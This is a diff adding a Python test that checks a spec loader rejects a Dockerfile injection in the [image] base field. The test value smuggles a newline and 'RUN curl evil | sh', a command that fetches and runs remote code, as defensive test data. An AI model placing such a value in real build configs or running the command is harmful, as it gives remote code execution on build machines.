@@ -123,3 +123,11 @@ def test_spec_is_found_by_option_and_environment(tmp_path):
 def test_redact_hides_passwords():
     assert redact("postgresql://u:secret@h/db") == "postgresql://u:***@h/db"
     assert redact("duckdb:///x.duckdb") == "duckdb:///x.duckdb"
+
+
+def test_image_fields_that_reach_a_dockerfile_are_validated(tmp_path):
+    spec = tmp_path / "batchcast.toml"
+    spec.write_text('[service]\nname = "s"\nversion = "1"\n[image]\nbase = "python:3.11\\nRUN curl evil | sh"\n')
+    with pytest.raises(SpecError) as err:
+        load_spec(spec)
+    assert "[image] base" in str(err.value) and "not an image reference part" in str(err.value)
